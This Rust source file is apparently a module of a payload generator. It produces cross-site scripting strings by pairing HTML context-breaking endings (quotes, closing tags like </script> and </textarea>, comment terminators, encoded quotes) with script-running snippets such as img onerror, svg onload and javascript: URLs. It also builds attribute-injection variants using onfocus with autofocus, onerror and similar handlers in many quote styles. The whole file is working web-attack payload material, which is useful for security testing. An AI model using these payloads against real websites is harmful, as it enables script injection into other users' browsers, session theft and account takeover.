//! Out of an attribute, an element, a comment: an end of each kind, and something that runs behind it.

/// What ends the place that the text stands in.
const ENDS: &[&str] = &[
    "",
    ">",
    "\">",
    "'>",
    "`>",
    "\" >",
    "'\">",
    "\"'>",
    "/>",
    "\"/>",
    "\\\">",
    "&quot;>",
    "&#34;>",
    "\\u0022>",
    "%22>",
    "</title>",
    "</TITLE >",
    "</textarea>",
    "</textarea/>",
    "</style>",
    "</script>",
    "</scrIPT\n>",
    "</noscript>",
    "</noembed>",
    "</noframes>",
    "</xmp>",
    "</iframe>",
    "</plaintext>",
    "</template>",
    "</select>",
    "</option></select>",
    "</option></optgroup></select>",
    "</button>",
    "</a>",
    "</p></div></body></html>",
    "</svg>",
    "</math>",
    "</desc></svg>",
    "-->",
    "--!>",
    "--\n>",
    "->",
    "--><!--",
    "]]>",
    "?>",
    "%>",
    "*/-->",
    "</comment>",
    "\" srcdoc=\"",
    "\0\">",
    "\n\n\">",
    "\u{2028}\">",
];

/// What runs.
const RUNS: &[&str] = &[
    "<script>@</script>",
    "<img src=x onerror=@>",
    "<svg/onload=@>",
    "<iframe src=javascript:@></iframe>",
    "<body onload=@>",
];

/// Out of the value into another attribute: `Q` is the quote.
const ATTRIBUTES: &[&str] = &[
    "Q onfocus=@ autofocus x=Q",
    "Q autofocus tabindex=1 onfocus=@ Q",
    "Q/onfocus=@/autofocus/x=Q",
    "Q\nonfocus=@\nautofocus\nx=Q",
    "Q\tonfocus\t=\t@ autofocus x=Q",
    "Q onerror=Q@Q src=Qx",
    "Q onload=Q@Q x=Q",
    "Q onmouseover=Q@Q style=Qposition:fixed;inset:0",
    "Q onanimationstart=Q@Q style=Qanimation:x",
    "Q ontoggle=Q@Q popover=Q",
    "Q href=Qjavascript:@",
    "Q src=Qjavascript:@",
    "Q formaction=Qjavascript:@",
    "Q type=image src=x onerror=Q@",
    "Q style=Qbackground:url(javascript:@)",
    "Q xmlns=Qx onload=Q@",
];

pub(in crate::payloads) fn payloads() -> Vec<String> {
    let mut all = Vec::new();
    for end in ENDS {
        for run in RUNS {
            all.push(format!("{end}{run}"));
        }
    }
    for attribute in ATTRIBUTES {
        for quote in ["\"", "'", "", "`", "&quot;", "\\\"", "\u{ff02}"] {
            all.push(attribute.replace('Q', quote));
        }
        // Behind text that looks harmless.
        all.push(format!("blue{}", attribute.replace('Q', "\"")));
        all.push(format!("x y{}", attribute.replace('Q', "'")));
    }
    all
}
